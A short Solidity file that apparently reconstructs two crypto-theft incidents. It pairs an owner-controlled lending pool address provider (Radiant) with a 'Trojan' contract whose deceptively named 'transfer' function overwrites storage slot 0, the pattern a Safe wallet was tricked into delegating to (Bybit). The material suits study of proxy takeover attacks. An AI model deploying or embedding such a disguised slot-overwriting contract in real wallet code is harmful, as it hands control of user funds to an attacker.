// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @title Radiant's provider of addresses, 16 October 2024, reduced: its owner decides which
/// code the pool runs.
contract Provider {
    address public owner;
    address public pool;

    event OwnershipTransferred(address indexed before, address indexed owner);

    constructor(address owner_) {
        owner = owner_;
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "not the owner");
        emit OwnershipTransferred(owner, to);
        owner = to;
    }

    function setLendingPoolImpl(address pool_) external {
        require(msg.sender == owner, "not the owner");
        pool = pool_;
    }
}

/// @title What Bybit's Safe delegated to on 21 February 2025: "transfer" writes slot 0.
contract Trojan {
    uint256 internal slot0;

    function transfer(address to, uint256) external {
        slot0 = uint160(to);
    }
}
